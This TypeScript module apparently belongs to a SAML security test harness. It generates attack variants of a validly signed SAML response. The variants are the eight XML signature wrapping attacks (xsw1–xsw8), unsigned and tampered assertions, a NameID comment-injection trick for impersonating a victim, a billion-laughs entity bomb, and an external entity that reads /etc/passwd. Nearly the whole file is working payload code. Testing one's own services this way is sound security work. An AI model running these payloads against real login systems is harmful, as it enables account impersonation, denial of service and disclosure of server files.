// Attacks on a service that reads SAML: each takes a response that is rightly signed and gives what an attacker makes of it. Pure.
// The eight wrappings are those of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., USENIX Security 2012), as SAML
// Raider numbers them: the signed element goes on existing somewhere, so that its signature holds, and another stands where a
// service looks.
import { findPiece, pieceOf, spliced, withAttribute, withPiece } from './xml-pieces.ts';

/** An attack: the signed response, and the name id (and e-mail address) that the attacker wants to pass for. */
type Attack = (xml: string, nameId: string) => string;

export type AttackName =
  | `xsw${1 | 2 | 3 | 4 | 5 | 6 | 7 | 8}`
  | 'two_assertions'
  | 'unsigned'
  | 'unsigned_impostor'
  | 'tampered'
  | 'comment_in_name_id'
  | 'doctype'
  | 'entity_expansion'
  | 'external_entity';

const EVIL_RESPONSE = '_evil_response_ID';
const EVIL_ASSERTION = '_evil_assertion_ID';

/** The attacks by their names. xsw1 and xsw2 want the response signed, xsw3 to xsw8 the assertion alone. */
export const ATTACKS: Readonly<Record<AttackName, Attack>> = {
  /** The signed response inside the signature of an evil response. */
  xsw1: (xml, nameId) => evilResponse(xml, nameId, (signature, original) => appended(signature, original)),
  /** The signed response before the (now detached) signature of an evil response. */
  xsw2: (xml, nameId) => evilResponse(xml, nameId, (signature, original) => original + signature),
  /** An evil assertion before the signed one. */
  xsw3: (xml, nameId) => withPiece(xml, 'Assertion', (signed) => evilCopy(signed, nameId) + signed),
  /** The signed assertion inside an evil one. */
  xsw4: (xml, nameId) => withPiece(xml, 'Assertion', (signed) => appended(evilCopy(signed, nameId), signed)),
  /** The assertion that holds the signature is evil; the one it signs stands at the end, without it. */
  xsw5(xml, nameId) {
    const { xml: signed } = pieceOf(xml, 'Assertion');
    return appended(
      withPiece(xml, 'Assertion', () => evilOriginal(signed, nameId)),
      unsigned(signed),
    );
  },
  /** The same, with the assertion it signs inside the signature. */
  xsw6: (xml, nameId) =>
    withPiece(xml, 'Assertion', (signed) =>
      withPiece(evilOriginal(signed, nameId), 'Signature', (signature) => appended(signature, unsigned(signed))),
    ),
  /** An evil assertion of the same ID within Extensions, where a schema allows anything, before the signed one. */
  xsw7: (xml, nameId) =>
    withPiece(xml, 'Assertion', (signed) => `<Extensions>${impostor(unsigned(signed), nameId)}</Extensions>${signed}`),
  /** The assertion that holds the signature is evil; the one it signs, of the same ID, within an Object of the signature. */
  xsw8: (xml, nameId) =>
    withPiece(xml, 'Assertion', (signed) =>
      withPiece(impostor(signed, nameId), 'Signature', (signature) =>
        appended(signature, `<Object>${unsigned(signed)}</Object>`),
      ),
    ),
  /** Two assertions, of which neither hides: the signed one, then an evil one without a signature. */
  two_assertions: (xml, nameId) => withPiece(xml, 'Assertion', (signed) => signed + evilCopy(signed, nameId)),
  /** No signature at all. */
  unsigned: (xml) => unsigned(xml),
  /** No signature, and another name. */
  unsigned_impostor: (xml, nameId) => impostor(unsigned(xml), nameId),
  /** Another name under the signature as it was. */
  tampered: (xml, nameId) => withPiece(xml, 'Assertion', (signed) => impostor(signed, nameId)),
  /**
   * A comment in the name id, which signatures leave out of account: `victim@corp.example<!---->.evil.example`, signed for a person
   * of the attacker's whose name id begins with the victim's, reads as the victim's where text stops at the comment. The same in each
   * attribute that begins so.
   */
  comment_in_name_id(xml, nameId) {
    const name = escapedText(nameId);
    if (!pieceOf(xml, 'NameID').xml.includes(`>${name}`)) throw new Error(`the name id does not begin with ${nameId}`);
    return xml.replaceAll(`>${name}`, () => `>${name}<!---->`);
  },
  /** A DOCTYPE that declares nothing. */
  doctype: (xml) => `<!DOCTYPE Response>${xml}`,
  /** Entities that unfold to three thousand million bytes ("billion laughs"). */
  entity_expansion: (xml) => withEntity(`<!DOCTYPE Response [${laughs()}]>${xml}`, 'lol9'),
  /** An entity that is a file of the service's machine. */
  external_entity: (xml) =>
    withEntity(`<!DOCTYPE Response [<!ENTITY file SYSTEM "file:///etc/passwd">]>${xml}`, 'file'),
};

/** The wrappings, of which the first two want the response signed. */
export const RESPONSE_ATTACKS: readonly AttackName[] = ['xsw1', 'xsw2'];

/** Those that begin at an assertion which alone is signed. */
export const ASSERTION_ATTACKS: readonly AttackName[] = ['xsw3', 'xsw4', 'xsw5', 'xsw6', 'xsw7', 'xsw8'];

/** An evil response around the signature of the signed one, which `place` puts next to the signature or into it. */
function evilResponse(xml: string, nameId: string, place: (signature: string, original: string) => string): string {
  return withPiece(xml, 'Response', (response) => {
    const { from, to, xml: signature } = pieceOf(response, 'Signature');
    const [head, tail] = [response.slice(0, from), response.slice(to)];
    return withAttribute(head, 'ID', EVIL_RESPONSE) + place(signature, head + tail) + impostor(tail, nameId);
  });
}

/** A copy of a signed assertion that is the attacker's: another name, another ID, no signature. */
function evilCopy(signed: string, nameId: string): string {
  return evilOriginal(unsigned(signed), nameId);
}

function evilOriginal(signed: string, nameId: string): string {
  return withAttribute(impostor(signed, nameId), 'ID', EVIL_ASSERTION);
}

/** Says of somebody else what is said: the name id, and each text that is an e-mail address, is this one. */
function impostor(xml: string, nameId: string): string {
  const { innerFrom, innerTo } = pieceOf(xml, 'NameID');
  const name = escapedText(nameId);
  return spliced(xml, innerFrom, innerTo, name).replace(/>[^<>@\s]+@[^<>@\s]+</g, () => `>${name}<`);
}

/** Without any signature. */
function unsigned(xml: string): string {
  const signature = findPiece(xml, 'Signature');
  return signature === undefined ? xml : unsigned(spliced(xml, signature.from, signature.to));
}

/** An element with something more at its end. */
function appended(element: string, more: string): string {
  const end = element.lastIndexOf('</');
  return spliced(element, end, end, more);
}

/** The e-mail address of the response is read from this entity; signatures are over what a reader of entities sees, or not. */
function withEntity(xml: string, entity: string): string {
  const { from } = pieceOf(xml, 'Assertion');
  const { innerFrom, innerTo } = pieceOf(xml, 'AttributeValue', from);
  return spliced(xml, innerFrom, innerTo, `&${entity};`);
}

function laughs(): string {
  const first = '<!ENTITY lol0 "lol">';
  const more = Array.from({ length: 9 }, (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at};`.repeat(10)}">`);
  return [first, ...more].join('');
}

function escapedText(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}
